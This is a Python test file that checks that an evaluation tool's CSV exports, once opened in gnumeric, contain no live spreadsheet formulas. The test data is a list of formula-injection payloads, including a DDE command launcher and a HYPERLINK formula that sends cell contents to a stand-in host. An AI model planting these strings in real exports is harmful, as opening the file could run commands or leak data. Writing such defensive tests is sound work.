"""A board's CSV in a real spreadsheet program: no name of a model becomes a formula, and all text is kept."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest

from echosim.cli import slice_table
from echosim.records import Estimate
from echosim.reporting import tables
from echosim.reporting.visible import visible
from echosim.scoring.slices import Slice
from tests.reporting import synthetic

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(shutil.which("ssconvert") is None, reason="ssconvert (gnumeric) is not installed"),
]

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"see")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "model,=1+1",
    "model\r\n=1+1",
    "model;=1+1",
    "model\t=1+1",
)
CELL = "{http://www.gnumeric.org/v10.dtd}Cell"


def opened(folder: Path, text: str) -> list[ElementTree.Element]:
    """The filled cells of a CSV after a spreadsheet program has opened and calculated it."""
    source, kept = folder / "board.csv", folder / "board.xml"
    source.write_bytes(text.encode())
    command = ["ssconvert", "--recalc", "--export-type=Gnumeric_XmlIO:sax:0", str(source), str(kept)]
    subprocess.run(command, check=True, timeout=60, capture_output=True)
    return list(ElementTree.parse(kept).iter(CELL))


def formulas(cells: list[ElementTree.Element]) -> list[str]:
    """Cells that hold an expression: those have no value type of their own."""
    return [cell.text or "" for cell in cells if "ValueType" not in cell.attrib]


def texts(cells: list[ElementTree.Element]) -> set[str]:
    return {cell.text or "" for cell in cells if cell.get("ValueType") == "60"}


def test_the_program_would_run_what_is_not_guarded(tmp_path):
    """This one runs what begins with = and parses; others also run what begins with +, - or @."""
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\r\n").writerows([payload] for payload in PAYLOADS)
    ran = formulas(opened(tmp_path, stream.getvalue()))
    assert [text.partition("(")[0] for text in ran] == ["=hyperlink", "=1+1"]


def test_a_board_with_hostile_names_holds_no_formula_and_keeps_its_text(tmp_path):
    board = synthetic.board({f"model-{place}": -0.05 * place for place in range(len(PAYLOADS))})
    rows = tuple(
        row.model_copy(
            update={"target": payload, "arm": payload, "marks": (payload,), "worst_persona": payload}
        )
        for row, payload in zip(board.rows, PAYLOADS, strict=True)
    )
    cells = opened(tmp_path, tables.csv_text(board.model_copy(update={"rows": rows})))
    assert formulas(cells) == []
    assert {visible(payload) for payload in PAYLOADS} <= texts(cells)
    numbers = [float(cell.text) for cell in cells if cell.get("ValueType") == "40"]
    assert all(any(abs(row.eci.value - number) < 1e-12 for number in numbers) for row in rows)


def test_slices_with_hostile_names_hold_no_formula_and_keep_their_text(tmp_path):
    found = [
        Slice(
            target=payload,
            arm=payload,
            user=payload,
            slice=payload,
            families=12,
            net_capture=Estimate(value=0.25, low=-0.1, high=0.4, n=12),
            difference=Estimate(value=None, reason=payload),
            q=None,
        )
        for payload in PAYLOADS
    ]
    cells = opened(tmp_path, slice_table.csv_text(found))
    assert formulas(cells) == []
    assert {visible(payload) for payload in PAYLOADS} <= texts(cells)
